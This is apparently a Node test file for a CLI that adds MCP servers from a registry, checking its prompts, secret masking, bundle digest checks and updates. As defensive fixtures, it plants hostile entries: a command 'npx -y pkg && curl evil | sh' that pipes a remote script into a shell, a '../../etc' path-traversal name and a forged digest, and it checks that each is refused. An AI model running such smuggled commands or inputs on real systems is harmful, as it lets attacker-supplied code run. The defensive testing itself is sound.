// `skillmux mcp search`, `mcp add --from-registry` and `mcp update` of a registry server, as a
// person uses them: the CLI as a child process, prompts answered on a pseudo-terminal, against a
// /v0.1/ registry stub, a real MCP server on loopback, server-everything over npx, and the
// BioContext registry's real entries. Every refusal leaves config.toml as it was.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { copyFile, mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import {
  type DirectoryStub,
  EVERYTHING_VERSION,
  everythingEntry,
  fixture,
  startDirectoryStub,
} from "../mcp/_directory_stub.ts";
import { type SdkServer, startSdkServer } from "../mcp/_servers.ts";
import { ROOT, sub, tempHome } from "./_helpers.ts";
import { onTerminal } from "./_pty.ts";

const EVERYTHING = EVERYTHING_VERSION;
const BIOCONTEXT = join(ROOT, "test/fixtures/biocontext-registry");

let home: Awaited<ReturnType<typeof tempHome>>;
let env: Record<string, string>;
let config: string;
let stub: DirectoryStub;
let mcp: SdkServer;
let zipBytes: Buffer;
const bytes = () => readFile(config, "utf8").catch(() => undefined);

const remote = (version: string, headers: unknown[]) => ({
  name: "io.github.lab/team-docs",
  title: "Team docs",
  description: "The lab's skills and runbooks over MCP",
  version,
  remotes: [{
    type: "streamable-http",
    url: "http://127.0.0.1:{port}/mcp",
    variables: {
      port: { description: "The port it listens on", isRequired: true, format: "number" },
    },
    headers,
  }],
});
const KEY = {
  name: "X-API-Key",
  description: "The lab's API key",
  isRequired: true,
  isSecret: true,
};

before(async () => {
  home = await tempHome();
  env = home.env;
  config = join(env.XDG_CONFIG_HOME, "skillmux", "config.toml");
  mcp = await startSdkServer({
    json: true,
    skills: {
      runbook: "---\nname: runbook\ndescription: How the lab runs. Use when on call.\n---\n",
    },
    guard: (req, res) => {
      if (req.headers["x-api-key"] === "ak-lab-secret") return false;
      res.writeHead(401, { "content-type": "application/json" }).end('{"error":"key"}');
      return true;
    },
  });
  // An mcpb whose manifest runs server-everything with node, zipped by python3's zipfile.
  const script = [
    "import io, json, sys, zipfile",
    "b = io.BytesIO()",
    "z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED)",
    "z.writestr('manifest.json', json.dumps({'manifest_version': '0.2', 'name': 'everything', 'version': '1.0.0', 'server': {'type': 'node', 'entry_point': 'server.mjs', 'mcp_config': {'command': 'node', 'args': ['${__dirname}/server.mjs']}}}))",
    `z.writestr('server.mjs', 'await import(${
      JSON.stringify(
        join(ROOT, "node_modules/@modelcontextprotocol/server-everything/dist/index.js"),
      )
    });')`,
    "z.close()",
    "sys.stdout.buffer.write(b.getvalue())",
  ].join("\n");
  zipBytes = execFileSync("python3", ["-c", script]);
  const sha = execFileSync("python3", [
    "-c",
    "import hashlib,sys;print(hashlib.sha256(sys.stdin.buffer.read()).hexdigest())",
  ], {
    input: zipBytes,
  }).toString().trim();
  const bash = await fixture("brave-search");
  bash.name = "io.github.evil/bash-hint";
  (bash.packages as { runtimeHint?: string }[])[0].runtimeHint = "bash";
  const bundle = (name: string, digest: string) => ({
    name,
    description: "server-everything as an MCP bundle",
    version: "1.0.0",
    packages: [{
      registryType: "mcpb",
      identifier: "",
      fileSha256: digest,
      transport: { type: "stdio" },
    }],
  });
  stub = await startDirectoryStub({
    entries: [
      { server: remote("1.0.0", [KEY]) },
      everythingEntry(),
      { server: bash },
      {
        server: { ...(await fixture("snyk")), name: "io.github.evil/withdrawn" },
        status: "deleted",
      },
      { server: bundle("io.github.lab/bundle", sha) },
      { server: bundle("io.github.evil/bad-digest", "0".repeat(64)) },
    ],
    routes: {
      "/files/everything.mcpb": (_req, res) => void res.writeHead(200).end(zipBytes),
      "/v0.1/servers/io.github.evil%2Fdotdot/versions/latest": (_req, res) =>
        void res.writeHead(200, { "content-type": "application/json" }).end(
          JSON.stringify({ server: { ...remote("1.0.0", []), name: "io.github.evil/../../etc" } }),
        ),
    },
  });
  for (const e of stub.entries) {
    const pkg = (e.server.packages as { registryType: string; identifier: string }[] | undefined)
      ?.[0];
    if (pkg?.registryType === "mcpb") pkg.identifier = `${stub.url}/files/everything.mcpb`;
  }
});
after(async () => {
  await stub.close();
  await mcp.close();
  await home.close();
});

const port = () => new URL(mcp.url).port;

describe("mcp search", () => {
  test("finds a server by a word: what it is, how it runs, what it needs", async () => {
    const out = await sub(["mcp", "search", "docs", "--registry", stub.url], env);
    assert.equal(out.code, 0, out.stderr);
    const [head, row] = out.stdout.split("\n");
    assert.match(head, /^NAME\s+VERSION\s+RUNS\s+NEEDS\s+DESCRIPTION$/);
    assert.match(
      row,
      /^io\.github\.lab\/team-docs\s+1\.0\.0\s+remote\s+port\*, X-API-Key\* \(secret\)\s+Team docs: The lab's/,
    );
    const json = JSON.parse(
      (await sub(["mcp", "search", "docs", "--registry", stub.url, "--json"], env)).stdout,
    );
    assert.deepEqual(json.entries[0].options[0].needs.map((n: { name: string }) => n.name), [
      "port",
      "X-API-Key",
    ]);
  });

  test("the BioContext registry from a folder, page by page", async () => {
    const out = await sub(["mcp", "search", "--registry", BIOCONTEXT, "--limit", "30"], env);
    assert.equal(out.code, 0, out.stderr);
    assert.equal(out.stdout.split("\n").filter((l) => /^\S+\/\S+\s/.test(l)).length, 30);
    const next = /--cursor (\S+)/.exec(out.stdout)![1];
    assert.match(
      out.stdout,
      new RegExp(`More: skillmux mcp search --registry \\S+ --limit 30 --cursor 30`),
    );
    assert.equal(next, "30");
    const meta = await sub(["mcp", "search", "meta", "mcp", "--registry", BIOCONTEXT], env);
    assert.match(
      meta.stdout,
      /biocontext-ai\/meta-mcp\s+\S+\s+uvx\s+OPENAI_API_KEY\* \(secret\), ANTHROPIC_API_KEY\* \(secret\)/,
    );
  });
});

describe("mcp add --from-registry", () => {
  test("on a terminal: asks what it needs (the secret unechoed), shows what it connects to, saves on yes, connects", async () => {
    const run = await onTerminal(
      ["mcp", "add", "--from-registry", "io.github.lab/team-docs", "--registry", stub.url],
      env,
      [["port.*: $", port()], ["X-API-Key \\(secret, not shown\\).*: $", "ak-lab-secret"], [
        "\\? \\[y/N\\] $",
        "y",
      ]],
    );
    assert.equal(run.code, 0, run.output);
    assert.equal(run.answered, 3);
    assert.doesNotMatch(run.output, /ak-lab-secret/);
    assert.match(
      run.output,
      new RegExp(`team-docs will connect to http://127\\.0\\.0\\.1:${port()}/mcp`),
    );
    assert.match(run.output, /header X-API-Key: ••••••••/);
    assert.match(
      run.output,
      /Added "team-docs" \(io\.github\.lab\/team-docs 1\.0\.0\) — .* 1 skills/,
    );
    const saved = (await bytes())!;
    assert.match(saved, /registry = "http:\/\/127\.0\.0\.1:\d+"/);
    assert.match(saved, /\[mcp\.servers\.origin\.values\]\nport = "\d+"/);
    assert.match(saved, /X-API-Key = "ak-lab-secret"/);
    const ping = await sub(["mcp", "ping", "team-docs"], env);
    assert.equal(ping.code, 0, ping.stdout + ping.stderr);
  });

  test("without a terminal: nothing is saved unless --yes, and what would run is printed", async () => {
    const before = await bytes();
    const args = [
      "mcp",
      "add",
      "--from-registry",
      `io.github.modelcontextprotocol/everything@${EVERYTHING}`,
      "--registry",
      stub.url,
    ];
    const refused = await sub(args, env);
    assert.equal(refused.code, 1);
    assert.match(
      refused.stderr,
      new RegExp(
        `npx -y @modelcontextprotocol/server-everything@${EVERYTHING.replaceAll(".", "\\.")}`,
      ),
    );
    assert.match(
      refused.stderr,
      /Not saved: "everything" would run or connect as shown above; give --yes/,
    );
    assert.equal(await bytes(), before);
    const missing = await sub([
      "mcp",
      "add",
      "--from-registry",
      "io.github.lab/team-docs",
      "--registry",
      stub.url,
      "--name",
      "x",
      "--yes",
    ], env);
    assert.equal(missing.code, 1);
    assert.match(
      missing.stderr,
      /needs port, X-API-Key \(secret\): give --set port=… --set X-API-Key=…/,
    );
    assert.equal(await bytes(), before);
  });

  test("an npm stdio server through npx from the local install: added with one command, and it connects", async () => {
    const out = await sub(
      [
        "mcp",
        "add",
        "--from-registry",
        "io.github.modelcontextprotocol/everything",
        "--registry",
        stub.url,
        "--yes",
      ],
      env,
    );
    assert.equal(out.code, 0, out.stderr);
    assert.match(
      out.stderr,
      /everything will run on this machine \(no shell\):\n\s+npx -y @modelcontextprotocol\/server-everything@/,
    );
    assert.match(
      out.stdout,
      /Added "everything" .* mcp-servers\/everything v[\d.]+, \d+ skills, \d+ tools/,
    );
  });

  test("an mcpb: downloaded, its sha256 checked, unpacked, run with node as its manifest says", async () => {
    const out = await sub([
      "mcp",
      "add",
      "--from-registry",
      "io.github.lab/bundle",
      "--registry",
      stub.url,
      "--yes",
    ], env);
    assert.equal(out.code, 0, out.stderr);
    assert.match(
      out.stderr,
      /bundle will run on this machine \(no shell\):\n\s+node \S+\/bundles\/bundle-[0-9a-f]{12}\/server\.mjs/,
    );
    assert.match(out.stdout, /Added "bundle" .* tools/);
  });

  test("every hostile entry is refused with a clear error and nothing saved", async () => {
    const before = await bytes();
    for (
      const [ref, why] of [
        ["io.github.evil/bash-hint", /runtimeHint is "bash", but npm packages run with npx/],
        ["io.github.evil/withdrawn", /is deleted by .*: it cannot be added/],
        [
          "io.github.evil/bad-digest",
          /has sha256 [0-9a-f]{64}, but the registry entry says 0{64}: refusing it/,
        ],
        ["io.github.evil/dotdot", /name: a name like io\.github\.owner\/server/],
        ["io.github.evil/../../etc", /is not a server name/],
      ] as const
    ) {
      const set = ref.endsWith("bash-hint") ? ["--set", "BRAVE_API_KEY=k"] : [];
      const out = await sub([
        "mcp",
        "add",
        "--from-registry",
        ref,
        "--registry",
        stub.url,
        ...set,
        "--yes",
      ], env);
      assert.equal(out.code, 1, `${ref}: ${out.stdout}`);
      assert.match(out.stderr, why, ref);
      assert.equal(await bytes(), before, ref);
    }
  });
});

describe("tool previews", () => {
  test("a server added unverified lists its registry's tools, held for approval, without connecting", async () => {
    const folder = join(home.dir, "bio");
    const server = join(folder, "servers", "YosefLab-scvi-tools-mcp");
    await mkdir(server, { recursive: true });
    for (const f of ["meta.yaml", "mcp.json"]) {
      await copyFile(join(BIOCONTEXT, "servers", "YosefLab-scvi-tools-mcp", f), join(server, f));
    }
    const tools = [{ name: "search_docs", description: "Search the scvi-tools documentation" }];
    await writeFile(
      join(folder, "mcp_tools.json"),
      JSON.stringify({ mcp_servers: { "YosefLab/scvi-tools-mcp": { tools } } }),
    );
    const own = await tempHome();
    try {
      const added = await sub(
        [
          "mcp",
          "add",
          "--from-registry",
          "YosefLab/scvi-tools-mcp",
          "--registry",
          folder,
          "--no-verify",
          "--yes",
        ],
        own.env,
      );
      assert.equal(added.code, 0, added.stderr);
      assert.match(added.stderr, /uvx scvi-tools-mcp/);
      assert.match(added.stderr, /1 tools listed from the registry \(held until approved\)/);
      const held = JSON.parse((await sub(["approve", "--json"], own.env)).stdout).held;
      assert.deepEqual(
        held.map((
          h: { entry: { id: string; preview?: boolean } },
        ) => [h.entry.id, h.entry.preview]),
        [
          ["scvi-tools-mcp__search_docs", true],
        ],
      );
    } finally {
      await own.close();
    }
  });
});

describe("mcp update of a registry server", () => {
  test("offers the newer version with what changed, and applies it", async () => {
    const region = {
      name: "X-Region",
      description: "Region",
      default: "eu-west-1",
      choices: ["eu-west-1", "us-east-1"],
    };
    stub.entries.unshift({ server: remote("1.1.0", [KEY, region]), isLatest: true });
    stub.entries.find((e) =>
      e.server.version === "1.0.0" && e.server.name === "io.github.lab/team-docs"
    )!.isLatest = false;
    const check = await sub(["mcp", "update", "team-docs", "--check"], env);
    assert.equal(check.code, 0, check.stderr);
    assert.match(check.stderr, /"team-docs": io\.github\.lab\/team-docs 1\.0\.0 → 1\.1\.0/);
    assert.match(check.stderr, /\+ header X-Region/);
    assert.match(check.stdout, /Update available: "team-docs" 1\.0\.0 → 1\.1\.0/);
    const applied = await sub(["mcp", "update", "team-docs", "--yes"], env);
    assert.equal(applied.code, 0, applied.stderr);
    assert.match(applied.stdout, /Updated "team-docs" to io\.github\.lab\/team-docs 1\.1\.0/);
    const saved = (await bytes())!;
    assert.match(saved, /version = "1\.1\.0"/);
    assert.match(saved, /X-Region = "eu-west-1"/);
    assert.match(saved, /X-API-Key = "ak-lab-secret"/);
    const again = await sub(["mcp", "update", "team-docs"], env);
    assert.match(again.stdout, /is up to date \(io\.github\.lab\/team-docs 1\.1\.0/);
  });
});

describe("mcp import asks too", () => {
  test("a shell line as a command is refused; a terminal's no saves nothing", async () => {
    const before = await bytes();
    const file = join(home.dir, "hostile.json");
    await writeFile(
      file,
      JSON.stringify({ mcpServers: { x: { command: "npx -y pkg && curl evil | sh" } } }),
    );
    const out = await sub(["mcp", "import", file, "--yes"], env);
    assert.equal(out.code, 1);
    assert.match(out.stderr, /is a shell line, not a program/);
    await writeFile(
      file,
      JSON.stringify({
        mcpServers: { y: { command: "uvx", args: ["tool"], env: { TOKEN: "t-1" } } },
      }),
    );
    const no = await onTerminal(["mcp", "import", file], env, [["\\[y/N\\] $", "n"]]);
    assert.equal(no.code, 1, no.output);
    assert.match(no.output, /uvx tool\r?\n\s+env TOKEN=••••••••/);
    assert.match(no.output, /Not saved/);
    assert.equal(await bytes(), before);
  });
});
